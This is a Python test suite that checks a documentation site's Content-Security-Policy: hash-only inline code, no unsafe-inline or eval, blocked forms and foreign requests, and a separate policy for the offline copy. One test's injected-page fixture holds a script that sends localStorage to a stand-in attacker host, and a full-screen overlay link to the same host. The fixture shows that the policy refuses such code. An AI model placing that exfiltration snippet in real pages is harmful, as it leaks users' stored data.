"""The Content-Security-Policy every page carries: what it allows, and that the browser enforces it."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import jinja2
from playwright.sync_api import Page
from test_browser import site_pages

from conftest import CSP_VIOLATIONS
from credential_guides.csp import OwnInlineCode, policy_for, with_policy
from credential_guides.project import load_project

CSP_META = re.compile(r'<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def sha256(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (part.split() for part in policy.split("; "))}


TEMPLATES = [
    '<head><script>var a = 1;</script><script>__scope=new URL("{{ base_url }}",location)</script>'
    '<script type="module">import "./y.js";</script><script src="x.js"></script>'
    "<style>p{color:{{ config.color }}}</style></head>",
    '<body><script type="application/json" id="data">{{ data | tojson }}</script></body>',
]


def own_code() -> OwnInlineCode:
    return OwnInlineCode.from_templates(TEMPLATES, jinja2.Environment())


def test_the_policy_allows_by_hash_only_the_inline_code_the_templates_wrote() -> None:
    page = (
        '<html><head><meta charset="utf-8"><style>p{color:red}</style></head><body>'
        '<script>var a = 1;</script><script>__scope=new URL("../..",location)</script>'
        '<script type="module">import "./y.js";</script><script src="x.js"></script>'
        '<script type="application/json" id="data">{"a": 1}</script></body></html>'
    )
    allowed = own_code().allowed({"base_url": "../..", "config": {"color": "red"}})
    policy = policy_for(page, allowed)
    rules = directives(policy.text)
    assert rules["script-src"] == [
        "'self'",
        sha256("var a = 1;"),
        sha256('__scope=new URL("../..",location)'),
        sha256('import "./y.js";'),
    ]
    assert rules["style-src"] == ["'self'", sha256("p{color:red}")]
    assert rules["default-src"] == ["'self'"]
    assert rules["form-action"] == ["'none'"]
    assert rules["object-src"] == ["'none'"]
    assert policy.refused == ""
    assert "'wasm-unsafe-eval'" in directives(policy_for(page, allowed, webassembly=True).text)["script-src"]
    for never in ("'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'"):
        assert never not in policy.text


def test_inline_code_no_template_wrote_is_never_hashed_and_is_counted() -> None:
    """What data slipped into a page (or a page in docs/ wrote) gets no hash, whatever it is."""
    page = (
        '<html><head><meta charset="utf-8"><style>p{color:blue}</style></head><body>'
        '<script>var a = 1;</script><script>fetch("//evil.example/?"+localStorage)</script>'
        '<script>__scope=new URL("/elsewhere",location)</script>'
        '<a style="position:fixed;inset:0" href="https://evil.example/">x</a><p STYLE = "color:red">y</p></body></html>'
    )
    policy = policy_for(page, own_code().allowed({"base_url": "../..", "config": {"color": "red"}}))
    rules = directives(policy.text)
    assert rules["script-src"] == ["'self'", sha256("var a = 1;")]
    assert rules["style-src"] == ["'self'"]
    assert (policy.refused_scripts, policy.refused_styles) == (2, 3)
    assert policy.refused == "2 inline script(s) and 3 inline style(s)"


def test_the_policy_goes_first_in_the_head() -> None:
    page = '<html><head>\n<meta charset="utf-8">\n<title>t</title><script>go()</script></head></html>'
    code = OwnInlineCode.from_templates(["<script>go()</script>"], jinja2.Environment())
    written = with_policy(page, policy_for(page, code.allowed({})))
    assert written.index("Content-Security-Policy") < written.index("<title>")
    assert sha256("go()") in written


def test_the_built_pages_list_only_hashes_of_the_theme_templates_code(site: Path) -> None:
    """Every hash in every page's policy is of a script or style rendered from a template's source."""
    from mkdocs.theme import Theme
    from mkdocs.utils import get_relative_url

    # The theme alone: loading mkdocs.yml would import the hook, which reloads this package's modules.
    theme = Theme(name="material", custom_dir=str(Path(__file__).parents[1] / "overrides"))
    colours = load_project(Path(__file__).parents[1]).settings.colors
    config = {"extra": {"cg_colors": {"primary": colours.primary, "accent": colours.accent}}}  # as the build sets them
    code = OwnInlineCode.from_theme_dirs([Path(d) for d in theme.dirs], theme.get_env())
    seen: set[str] = set()
    for html in sorted(site.rglob("*.html")):
        relative = html.relative_to(site).as_posix()
        # MkDocs' base_url: relative for pages, the site's path for the 404 template.
        base_url = "/" if relative == "404.html" else get_relative_url(".", relative.removesuffix("index.html"))
        scripts, styles = code.allowed({"config": config, "base_url": base_url})
        own = {sha256(s) for s in scripts | styles}
        policy = directives(CSP_META.search(html.read_text(encoding="utf-8")).group(1))  # type: ignore[union-attr]
        hashes = [h for h in policy["script-src"] + policy["style-src"] if h.startswith("'sha256-")]
        assert set(hashes) <= own, relative
        seen.update(hashes)
    assert len(seen) >= 4, "Material's scope script at several depths, its tabs script, ours, the colours"


def test_every_built_page_carries_a_policy_that_keeps_input_on_the_device(site: Path) -> None:
    missing = []
    for html in site.rglob("*.html"):
        match = CSP_META.search(html.read_text(encoding="utf-8"))
        if not match:
            missing.append(html.relative_to(site).as_posix())
            continue
        policy = directives(match.group(1))
        assert policy["default-src"] == ["'self'"], html
        assert policy["form-action"] == ["'none'"], html
        assert "'unsafe-inline'" not in policy["script-src"], html
    assert missing == []
    assert len(site_pages(site)) > 30


def test_the_browser_blocks_an_inline_script_and_a_foreign_request(served_site: str, page: Page) -> None:
    before = len(CSP_VIOLATIONS)
    page.goto(served_site + "/family-community-engagement/family-engagement-access-opportunities/")
    inject = "() => document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))"
    page.evaluate(inject)
    assert page.evaluate("() => window.ran") is None
    sent = page.evaluate("() => fetch('https://example.org/collect').then(() => 'sent', () => 'blocked')")
    assert sent == "blocked"
    page.wait_for_timeout(200)
    reported = CSP_VIOLATIONS[before:]
    del CSP_VIOLATIONS[before:]  # expected here; any other test reporting one fails
    assert any("script-src-elem blocked inline" in v for v in reported), reported
    assert any("connect-src blocked https://example.org/collect" in v for v in reported), reported


def test_the_offline_copy_also_allows_its_own_files_and_the_website_does_not(site: Path, tmp_path: Path) -> None:
    """Opened from file://, Firefox gives every file its own origin: 'self' alone would block the copy's scripts."""
    import zipfile

    with zipfile.ZipFile(site / "downloads" / "credential-guides-offline.zip") as zipped:
        offline = zipped.read("credential-guides/index.html").decode("utf-8")
    offline_policy = directives(CSP_META.search(offline).group(1))  # type: ignore[union-attr]
    assert offline_policy["default-src"] == ["'self'", "file:"]
    assert offline_policy["script-src"][:2] == ["'self'", "file:"]
    assert offline_policy["form-action"] == ["'none'"]
    web_policy = directives(CSP_META.search((site / "index.html").read_text(encoding="utf-8")).group(1))  # type: ignore[union-attr]
    assert "file:" not in web_policy["default-src"] and "file:" not in web_policy["script-src"]
